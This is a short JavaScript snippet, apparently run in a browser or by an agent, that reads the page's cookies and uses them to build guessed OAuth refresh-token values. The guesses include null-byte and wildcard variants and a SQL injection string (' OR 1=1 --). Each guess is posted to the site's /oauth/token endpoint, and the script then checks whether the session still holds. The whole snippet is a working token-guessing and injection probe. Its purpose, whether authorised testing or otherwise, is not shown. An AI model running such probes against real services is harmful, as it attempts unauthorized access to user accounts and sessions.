// Guesses refresh-token values: prefixes, cookie values, csrf, derived strings, access-token-looking values.
const cookies = Object.fromEntries(document.cookie.split("; ").filter(Boolean).map(p => [p.split("=")[0], p.slice(p.indexOf("=") + 1)]));
const guesses = ["sbrt_", "sbrt_0", "sbrt_" + "A".repeat(43), "sbrt_" + (cookies.csrf_token || ""), cookies.csrf_token || "x",
  cookies.session_expires || "y", "sbrt_" + (cookies.session_expires || ""), "sbrt_%00", "sbrt_*", "sbrt_" + "\u0000".repeat(8), "' OR 1=1 --"];
for (const g of guesses) {
  try {
    const r = await fetch("/oauth/token", {method: "POST", credentials: "include", headers: {"Content-Type": "application/x-www-form-urlencoded"},
      body: "grant_type=refresh_token&refresh_token=" + encodeURIComponent(g)});
    note(g, r.status, await r.text());
  } catch (e) { note("failed", String(e)); }
}
note("session still works", await post({action: "status"}));
